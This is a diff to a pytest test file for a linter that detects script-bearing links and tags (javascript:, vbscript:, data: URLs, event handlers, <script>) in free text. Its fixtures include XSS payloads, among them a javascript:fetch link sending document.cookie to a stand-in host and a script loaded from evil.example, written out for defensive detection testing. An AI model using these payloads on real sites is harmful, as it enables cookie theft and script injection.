@@ -73,7 +73,8 @@ FLAGGED = [
     ("Demo: javascript:alert(1)", "javascript:alert(1)"),
     ("- Portfolio → javascript:void(0)", "javascript:void(0)"),
     ("| Demo | javascript:alert(1) |\n|---|---|\n| a | b |", "javascript:alert(1)"),
-    ("Sample: data:text/html,<script>alert(1)</script>", "data:text/html,<script>alert(1)"),
+    # (the inline <script> is HTML a renderer keeps: it runs too)
+    ("Sample: data:text/html,<script>alert(1)</script>", ["data:text/html,<script>alert(1)", "<script>"]),
     # HTML: any tag, any quoting, entities, tabs and line breaks in the scheme
     ('<a href="javascript:fetch(\'//x.example/\'+document.cookie)">Reel</a>', "javascript:fetch('//x.example/'+document.cookie)"),
     ("<a href='vbscript:msgbox(1)'>Brochure</a>", "vbscript:msgbox(1)"),
@@ -97,6 +98,8 @@ FLAGGED = [
     # event handlers run code the same way
     ('<img src="x.png" onerror="alert(1)">', "alert(1)"),
     ('<a href="#" onclick="location=\'//evil.example\'">Samples</a>', "location='//evil.example'"),
+    ("<script>alert(1)</script>", "<script>"),
+    ('<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', "&lt;script&gt;alert(1)&lt;/script&gt;"),
     # HTML a parser did not take as HTML (no closing ">"): the attribute is still found in text
     ('Click <a href="javascript:alert(1)" and see', "javascript:alert(1)"),
 ]
@@ -104,7 +107,7 @@ FLAGGED = [
 
 @pytest.mark.parametrize("text,excerpt", FLAGGED, ids=[t[:40] for t, _ in FLAGGED])
 def test_script_links_are_found_where_they_are(text, excerpt, cfg):
-    assert script_links(text, cfg) == [excerpt]
+    assert script_links(text, cfg) == (excerpt if isinstance(excerpt, list) else [excerpt])
 
 
 CLEAN = [
@@ -118,6 +121,8 @@ CLEAN = [
     "Data: cleaned, deduplicated and delivered as CSV.",
     "Tech stack: data:image handling in Python.",
     "I fix javascript:void(0) links on old sites.",
+    "javascript:void(0) link fixes and SEO audits",
+    "- javascript:void(0) cleanup in old themes",
     "Removing javascript:alert(1) popups from WordPress themes.",
     "Le JavaScript : mon langage préféré. Données: 10 Go.",
     "Javascript-Entwicklung: React, Vue. Daten: bis 5 GB.",
@@ -152,6 +157,12 @@ def test_one_finding_per_link_and_no_host_finding_for_it(cfg):
         ("GC406", "javascript:fetch('https://evil.example/'+document.cookie)"),
         ("GC401", "https://evil.example"),
     ]
+
+
+def test_a_script_tag_with_a_source_is_also_a_disallowed_host(cfg):
+    found = [(f.rule, f.excerpt) for f in lint_text('<script src="https://evil.example/x.js"></script>', config=cfg)
+             if f.category == "links"]
+    assert found == [("GC406", '<script src="https://evil.example/x.js">'), ("GC401", "https://evil.example/x.js")]
 
 
 def test_messages_name_the_scheme(cfg):
